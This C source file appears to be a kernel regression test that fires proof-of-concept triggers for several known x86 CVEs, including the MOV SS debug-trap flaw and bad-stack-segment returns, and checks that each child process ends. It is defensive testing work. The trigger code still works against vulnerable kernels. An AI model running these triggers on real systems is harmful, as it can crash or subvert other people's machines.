/* CVE: CVE-2018-8897, CVE-2018-1087, CVE-2014-9322, CVE-2014-9090, CVE-2015-5157
   Wins: the kernel runs with the builder's stack or segments, after a return to the program that failed
   Verdict: ok
   Output: ok

   A trap that waits for the end of an instruction that loads the stack's segment, and falls into the kernel; a stack's segment that is taken away before the kernel
   returns. Only the child that does it may end. */

#include "../attack.h"

static u32 descriptor[4];

static int steps_into_kernel(void)
{
	asm volatile("mov %%ss, %%ecx\n\tpushf\n\torl $0x100, (%%esp)\n\tpopf\n\tmov %%ecx, %%ss\n\tint $0x80" : : "a"(GETPID) : "ecx", "memory");
	return 0;
}

static int steps_into_kernel_by_trap(void)
{
	asm volatile("mov %%ss, %%ecx\n\tpushf\n\torl $0x100, (%%esp)\n\tpopf\n\tmov %%ecx, %%ss\n\tint3" : : : "eax", "ecx", "memory");
	return 0;
}

static int segment_taken_away(void)
{
	descriptor[0] = ~0u;
	descriptor[1] = 0;
	descriptor[2] = 0xfffff;
	descriptor[3] = 0x51; /* 32 bits, pages, data */
	if (sys(SET_THREAD_AREA, descriptor))
		return 0;
	asm volatile("mov %0, %%ss" : : "r"(descriptor[0] * 8 + 3));
	descriptor[1] = descriptor[2] = 0;
	descriptor[3] = 0x28; /* an empty one */
	sys(SET_THREAD_AREA, descriptor);
	return 0;
}

static int segment_is_odd(void)
{
	static const u32 flags[] = { 0x50, 0x40, 0x11, 0x71, 0x5d, 0x7f };
	u32 i;

	for (i = 0; i < sizeof flags / sizeof *flags; i++) {
		descriptor[0] = ~0u;
		descriptor[1] = 0;
		descriptor[2] = 0xfffff;
		descriptor[3] = flags[i];
		if (!sys(SET_THREAD_AREA, descriptor)) {
			asm volatile("mov %0, %%gs\n\tmov %0, %%es" : : "r"(descriptor[0] * 8 + 3));
			sys(GETPID);
			asm volatile("mov %%ss, %%ecx\n\tmov %%ecx, %%es" : : : "ecx");
		}
	}
	return 0;
}

int attack(char **arguments, char **environment)
{
	int (*const ways[])(void) = { steps_into_kernel, steps_into_kernel_by_trap, segment_taken_away, segment_is_odd };
	u32 i, k;
	int end;

	for (k = 0; k < 5; k++)
		for (i = 0; i < 4; i++) {
			end = in_child(ways[i]);
			must(end != -1, "a child that did it has no end");
		}
	return 0;
}
